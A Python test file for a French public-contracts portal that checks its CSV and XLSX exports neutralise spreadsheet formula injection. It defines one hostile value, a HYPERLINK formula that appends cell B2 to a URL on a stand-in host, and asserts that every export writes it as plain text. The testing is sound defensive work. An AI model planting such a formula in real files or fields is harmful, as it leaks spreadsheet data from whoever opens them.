"""Text typed by people (a territory's name, a bilan's scope) never becomes a formula in the
spreadsheet of whoever opens the portal's CSV or XLSX files."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from clauses.bilans.enums import ScopeKind
from clauses.bilans.exports import to_csv, to_xlsx
from clauses.bilans.indicators import compute_bilan
from clauses.bilans.scopes import Period, Scope
from clauses.imports import monthly_hours
from clauses.imports.templates import template_csv, template_xlsx
from tests.clauses.factories import (
    BeneficiaryFactory,
    ClauseFactory,
    HoursDeclarationFactory,
    MarketFactory,
    PlacementFactory,
)
from tests.network.factories import TerritoryFactory

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x"&B2,"Bassin dijonnais")'


@pytest.fixture
def renamed(db):
    """A territory renamed to a formula, with six people employed in 2024."""
    cache.clear()
    territory = TerritoryFactory(name="Bassin dijonnais")
    market = MarketFactory(lead_territory=territory, status="en_execution",
                           execution_starts_on=datetime.date(2024, 1, 1))
    clause = ClauseFactory(market=market)
    for _ in range(6):
        placement = PlacementFactory(
            clause=clause, starts_on=datetime.date(2024, 1, 1),
            beneficiary=BeneficiaryFactory(territory=territory, criteria=[]),
        )
        HoursDeclarationFactory(placement=placement, month=datetime.date(2024, 1, 1),
                                hours_worked=Decimal("35"))
    territory.name = FORMULA
    territory.save()
    yield territory
    cache.clear()


def test_the_open_data_csv_writes_a_formula_name_as_text(client, renamed):
    response = client.get("/reseau/chiffres-cles.csv")

    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    names = [row["territoire"] for row in rows]
    assert "'" + FORMULA in names
    assert FORMULA not in names
    assert '"=HYPERLINK' not in text and "\n=" not in text and ",=" not in text
    mine = next(row for row in rows if row["territoire"].startswith("'="))
    assert mine["heures_realisees"] == "210.00" and mine["personnes"] == "6"


def test_bilan_exports_write_a_formula_label_as_text(renamed):
    bilan = compute_bilan(Scope(ScopeKind.TERRITORY, renamed, Period.year(2024)))

    text = to_csv(bilan, FORMULA, "Année 2024")
    workbook = load_workbook(io.BytesIO(to_xlsx(bilan, FORMULA, "Année 2024")))

    first = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert first["perimetre"] == "'" + FORMULA
    for sheet, cell in (("Bilan", "B2"), ("Données", "A2")):
        assert workbook[sheet][cell].value == FORMULA
        assert workbook[sheet][cell].data_type == "s"
        assert workbook[sheet][cell].quotePrefix


def test_import_templates_keep_their_format():
    content = template_csv(monthly_hours.COLUMNS)
    workbook = load_workbook(io.BytesIO(template_xlsx(monthly_hours.COLUMNS, "Heures")))

    assert content == "\ufeffmarche;lot;beneficiaire;mois;heures;heures_formation\r\n".encode()
    assert [c.value for c in workbook["Heures"][1]] == [c.name for c in monthly_hours.COLUMNS]
